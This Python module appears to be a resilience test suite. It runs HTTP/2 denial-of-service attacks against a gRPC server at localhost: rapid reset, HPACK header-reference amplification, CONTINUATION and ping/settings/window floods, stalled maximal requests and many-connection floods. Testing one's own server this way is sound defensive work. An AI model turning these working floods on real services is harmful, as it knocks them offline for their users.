"""Attacks on the port for gRPC."""

from __future__ import annotations

import itertools
import struct
import time
from collections import Counter
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from typing import Any

import grpc
from proofs.raw_http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    REFERENCE,
    RST,
    SETTINGS,
    WINDOW,
    RawHttp2,
    frame,
    headers,
    message,
)
from proofs.strangers_target import Attack, Reached

__all__ = ["AT_ONCE", "LARGEST", "METHODS", "attacks", "flood"]

LARGEST = 1 << 17  # bytes of a request
AT_ONCE = 33
METHODS = (
    *(f"covertbots.v1.Opponent/{method}" for method in ("ListBots", "SuggestMove", "Watch")),
    *(f"covertbots.v1.Referee/{method}" for method in ("GetCardSet", "Deal", "Advance")),
    "grpc.health.v1.Health/Check",
    "grpc.health.v1.Health/Watch",
)
CHECK, SUGGEST = "/grpc.health.v1.Health/Check", "/covertbots.v1.Opponent/SuggestMove"
CANCEL = struct.pack(">I", 8)
Sending = Callable[[RawHttp2], None]


def attacks() -> Iterator[tuple[str, Attack]]:
    """Yield the name and the function of each attack."""
    for path in METHODS:
        for calls in (1, AT_ONCE):
            yield f"gRPC {path}, {calls}", partial(largest, path=path, calls=calls)
    for name, number in (("x-b", 1000), ("x-b", 4000), ("x-request-id", 4000)):
        refer = partial(references, name=name, number=number)
        yield f"A gRPC {number} references to {name}", partial(flood, sending=refer)
    yield "B gRPC bodies that are refused", partial(flood, sending=bodies, connections=120)
    several: tuple[Sending, ...] = (rapid_reset, reset_with_body, cancelled, unknown_methods)
    for sending in several:
        yield f"H gRPC {sending.__name__}", partial(flood, sending=sending, connections=4)
    yield "H gRPC rapid_reset, 100", partial(flood, sending=rapid_reset, connections=100)
    several = pings, settings, windows, empty_data, unknown_frames, endless_headers
    for sending in several:
        yield f"gRPC {sending.__name__}", partial(flood, sending=sending, connections=4)
    yield "gRPC half_a_request", partial(flood, sending=half_a_request, connections=20)
    yield "gRPC health checks, 20", partial(flood, sending=checks, connections=20)
    yield "gRPC answers that nobody reads", partial(flood, sending=checks_unread, connections=20)
    several = half_a_request, checks, rapid_reset
    for sending in several:
        each = partial(flood, sending=sending, connections=1000, strangers=1000)
        yield f"gRPC 1000 strangers, {sending.__name__}", each


def largest(target: Reached, path: str, calls: int) -> Counter[str]:
    """Send a method so many of the largest requests at once."""
    outcomes: Counter[str] = Counter()
    credentials = grpc.ssl_channel_credentials(target.authority.read_bytes())
    with grpc.secure_channel(f"localhost:{target.port}", credentials) as channel:
        call: Any = channel.unary_stream(f"/{path}")

        def send(_: int) -> str:
            try:
                list(call(b"\x0a\x00" * (LARGEST // 2 - 16), timeout=60))
            except grpc.RpcError as failed:
                error: Any = failed
                return str(error.code().name)
            return "OK"

        with ThreadPoolExecutor(calls) as pool:
            outcomes.update(pool.map(send, range(calls)))
    return outcomes


def flood(
    target: Reached, sending: Sending, connections: int = 1, strangers: int = 1
) -> Counter[str]:
    """Send again and again over connections of strangers; open those anew that are closed."""
    outcomes: Counter[str] = Counter()
    held: dict[int, RawHttp2] = {}
    over = time.monotonic() + target.seconds
    for number in itertools.cycle(range(connections)):
        if time.monotonic() > over:
            break
        try:
            if number not in held:
                stranger = number % strangers
                held[number] = RawHttp2(target.secured(target.connection(target.port, stranger)))
                outcomes["connected"] += 1
            sending(held[number])
            held[number].read()
            outcomes["sent"] += 1
        except OSError as error:
            outcomes[f"lost by {type(error).__name__}"] += 1
            if number in held:
                held.pop(number).close()
    for connection in held.values():
        outcomes.update(connection.seen)
        connection.close()
    return outcomes


def references(connection: RawHttp2, name: str, number: int) -> None:
    """Let one header of 3,900 bytes stand for so many, which are megabytes."""
    head = headers(CHECK, [(name, "z" * 3900)], indexed=True)
    stream = connection.begin(head, flags=0)
    connection.send(frame(CONTINUATION, END_HEADERS, stream, REFERENCE * number))


def bodies(connection: RawHttp2) -> None:
    """Send bodies of calls that are refused for want of a token, as fast as it may."""
    stream = connection.begin(headers(SUGGEST))
    connection.send(frame(DATA, 0, stream, struct.pack(">BI", 0, 4 << 20)))
    for _ in range(8):
        connection.send_body(stream, 1 << 16)
        connection.read()


def rapid_reset(connection: RawHttp2) -> None:
    """Begin calls and reset them."""
    head = headers(CHECK)
    for _ in range(200):
        stream = connection.stream
        connection.stream += 2
        connection.send(frame(HEADERS, END_HEADERS, stream, head) + frame(RST, 0, stream, CANCEL))


def reset_with_body(connection: RawHttp2) -> None:
    """Begin calls, send their requests, and reset them."""
    head, body = headers(SUGGEST), message(bytes(1500))
    for _ in range(50):
        stream = connection.begin(head)
        connection.send(frame(DATA, END_STREAM, stream, body) + frame(RST, 0, stream, CANCEL))


def cancelled(connection: RawHttp2) -> None:
    """Begin health checks, and reset them a moment later."""
    begun = [connection.begin(headers(CHECK)) for _ in range(100)]
    time.sleep(0.005)
    for stream in begun:
        connection.send(frame(RST, 0, stream, CANCEL))


def unknown_methods(connection: RawHttp2) -> None:
    """Call methods that do not exist."""
    head = headers("/covertbots.v1.Opponent/Nothing")
    for _ in range(50):
        connection.begin(head, END_HEADERS | END_STREAM)


def checks(connection: RawHttp2) -> None:
    """Ask for health, again and again."""
    head, body = headers(CHECK), message(b"")
    for _ in range(20):
        stream = connection.begin(head)
        connection.send(frame(DATA, END_STREAM, stream, body))


def checks_unread(connection: RawHttp2) -> None:
    """Ask for health, and never open the window for the answer."""
    if connection.stream == 1:
        connection.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
    checks(connection)


def half_a_request(connection: RawHttp2) -> None:
    """Begin a health check whose request is as large as any may be, and do not end it."""
    stream = connection.begin(headers(CHECK))
    connection.send(frame(DATA, 0, stream, struct.pack(">BI", 0, LARGEST - 1)))
    for _ in range(4):
        connection.send_body(stream, LARGEST - 100)
        connection.read()


def pings(connection: RawHttp2) -> None:
    """Send pings."""
    connection.send(frame(PING, 0, 0, bytes(8)) * 2000)


def settings(connection: RawHttp2) -> None:
    """Change a setting to and fro."""
    changed = (frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535 - which)) for which in (0, 1))
    connection.send(b"".join(changed) * 1000)


def windows(connection: RawHttp2) -> None:
    """Open the window of the connection by a byte."""
    if connection.stream < 1 << 20:
        connection.stream += 2
        connection.send(frame(WINDOW, 0, 0, struct.pack(">I", 1)) * 2000)


def empty_data(connection: RawHttp2) -> None:
    """Send empty DATA frames."""
    if connection.stream == 1:
        connection.begin(headers(CHECK))
    connection.send(frame(DATA, 0, 1) * 2000)


def unknown_frames(connection: RawHttp2) -> None:
    """Send frames of an unknown type."""
    connection.send(frame(0x42, 0, 0, bytes(1000)) * 100)


def endless_headers(connection: RawHttp2) -> None:
    """Begin with headers, and go on with them for ever."""
    if connection.stream == 1:
        connection.begin(headers(CHECK), flags=0)
    connection.send(frame(CONTINUATION, 0, 1, b"\0\x01x\x7f\x80\x01" + b"y" * 255) * 100)
